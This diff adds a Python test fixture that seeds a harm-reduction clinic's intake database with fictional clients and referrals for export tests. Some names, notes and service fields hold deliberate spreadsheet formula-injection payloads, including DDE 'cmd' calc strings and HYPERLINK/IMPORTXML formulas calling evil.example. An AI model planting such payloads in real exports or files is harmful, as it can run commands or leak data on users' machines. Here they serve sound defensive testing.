@@ -1,0 +1,205 @@
+"""A small clinic's records for the export tests, stored through `record_intake`.
+
+Clients with names, an alias and hostile text (spreadsheet formulas in names, notes,
+counselor and service names), several referrals each, spread over three months, and a
+draft that must never be exported.
+"""
+
+import datetime as dt
+from collections.abc import Sequence
+from dataclasses import dataclass, field
+from typing import Any
+
+from sqlmodel import col, select
+
+from intake.intake_model import parse_intake
+from intake.records import ChosenReferral, record_intake, save_draft
+from intake.store.db import Database
+from intake.store.records_tables import Referral
+
+
+@dataclass(frozen=True)
+class FakeReferral:
+    service_id: str
+    service_name: str
+    organization_name: str = "Harm Reduction Collective"
+    pathway: str = "harm_reduction"
+    types: tuple[str, ...] = ("harm_reduction.naloxone",)
+    reasons: tuple[str, ...] = ("Matches goal: safety", "Free")
+    urgent: bool = False
+    safety_net: bool = False
+
+
+@dataclass(frozen=True)
+class FakePathway:
+    code: str
+    referrals: tuple[FakeReferral, ...]
+
+
+@dataclass(frozen=True)
+class FakePlan:
+    pathways: tuple[FakePathway, ...]
+    excluded: tuple[Any, ...] = ()
+    directory_version: str | None = "dir-7"
+    rules_version: str | None = "bundled:1"
+
+
+NALOXONE = FakeReferral(
+    "svc-naloxone", "Naloxone by mail", reasons=("Safety first: naloxone",), safety_net=True
+)
+SYRINGE = FakeReferral(
+    "svc-syringe",
+    "Northside Syringe Services",
+    types=("harm_reduction.syringe_services", "harm_reduction.naloxone"),
+    safety_net=True,
+)
+CRISIS = FakeReferral(
+    "svc-988",
+    "988 Suicide & Crisis Lifeline",
+    organization_name="988 Lifeline",
+    pathway="crisis",
+    types=("crisis.hotline",),
+    reasons=("Safety first: call or text 988",),
+    urgent=True,
+    safety_net=True,
+)
+HOSTILE_SERVICE = FakeReferral(
+    "svc-hostile",
+    '=HYPERLINK("http://evil.example","Click")',
+    organization_name="+cmd|' /C calc'!A0",
+    pathway="peer_support",
+    types=("peer_support.recovery_coach",),
+    reasons=("-2+3",),
+)
+PLAN = FakePlan(
+    pathways=(
+        FakePathway("crisis", (CRISIS,)),
+        FakePathway("harm_reduction", (SYRINGE, NALOXONE)),
+        FakePathway("peer_support", (HOSTILE_SERVICE,)),
+    )
+)
+
+MARIA = "María López Ruiz"
+SKY = "Sky"
+HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE_COUNSELOR = "\t=1+1"
+HOSTILE_NOTE = '\r=IMPORTXML("http://evil.example")'
+DRAFT_NAME = "Draft Person Never Exported"
+
+
+def at(day: str, time: str = "10:00") -> dt.datetime:
+    return dt.datetime.fromisoformat(f"{day}T{time}:00+00:00")
+
+
+def answers(name: str, goals: Sequence[str], born: str | None = None) -> dict[str, Any]:
+    client: dict[str, Any] = {"name": name}
+    if born:
+        client["date_of_birth"] = born
+    return {"client": client, "goals": list(goals)}
+
+
+@dataclass
+class Clinic:
+    """What `fill` stored: ids by name, for the tests to look for."""
+
+    client_ids: dict[str, str] = field(default_factory=dict)
+    intake_ids: list[str] = field(default_factory=list)
+    referrals: int = 0
+
+    def names(self) -> list[str]:
+        return [MARIA, SKY, HOSTILE_NAME, DRAFT_NAME]
+
+
+def record(
+    database: Database,
+    clinic: Clinic,
+    *,
+    name: str,
+    goals: Sequence[str],
+    refer: Sequence[ChosenReferral],
+    when: dt.datetime,
+    born: str | None = None,
+    alias: bool = False,
+    counselor: str | None = "Dana Counselor",
+) -> str:
+    intake = parse_intake(answers(name, goals, born), source="test")
+    intake_id = record_intake(
+        database,
+        intake,
+        chosen=list(refer),
+        plan=PLAN,
+        counselor=counselor,
+        client_id=clinic.client_ids.get(name),
+        is_alias=alias,
+        now=when,
+    )
+    clinic.intake_ids.append(intake_id)
+    clinic.referrals += len(refer)
+    if name not in clinic.client_ids:
+        clinic.client_ids[name] = _client_of(database, intake_id)
+    return intake_id
+
+
+def fill(database: Database) -> Clinic:
+    """Four finished intakes (3 clients, 8 referrals) from January to March 2026, a draft."""
+    clinic = Clinic()
+    record(
+        database,
+        clinic,
+        name=MARIA,
+        born="1990-04-12",
+        goals=["safety", "reduced_use"],
+        refer=[
+            ChosenReferral("svc-988"),
+            ChosenReferral("svc-syringe"),
+            ChosenReferral("svc-naloxone", note="Prefers mail"),
+        ],
+        when=at("2026-01-15"),
+    )
+    record(
+        database,
+        clinic,
+        name=SKY,
+        alias=True,
+        goals=["safety"],
+        refer=[ChosenReferral("svc-naloxone", note=HOSTILE_NOTE)],
+        when=at("2026-02-03"),
+        counselor=HOSTILE_COUNSELOR,
+    )
+    record(
+        database,
+        clinic,
+        name=HOSTILE_NAME,
+        goals=["abstinence"],
+        refer=[ChosenReferral("svc-hostile"), ChosenReferral("svc-syringe")],
+        when=at("2026-02-28", "23:59"),
+    )
+    record(
+        database,
+        clinic,
+        name=MARIA,
+        born="1990-04-12",
+        goals=["abstinence"],
+        refer=[ChosenReferral("svc-hostile"), ChosenReferral("svc-988")],
+        when=at("2026-03-01", "00:00"),
+    )
+    save_draft(database, intake_id=None, answers=answers(DRAFT_NAME, ["safety"]), counselor="Dana")
+    set_status(database, "svc-988", "got_help")
+    return clinic
+
+
+def set_status(database: Database, service_id: str, status: str) -> None:
+    """Referral statuses have no service yet: set them as the closed loop will."""
+    with database.session() as session:
+        for row in session.exec(select(Referral).where(col(Referral.service_id) == service_id)):
+            row.status = status
+            session.add(row)
+
+
+def _client_of(database: Database, intake_id: str) -> str:
+    from intake.store.records_tables import Intake as IntakeRow
+
+    with database.session() as session:
+        row = session.get(IntakeRow, intake_id)
+        assert row is not None and row.client_id is not None
+        return row.client_id
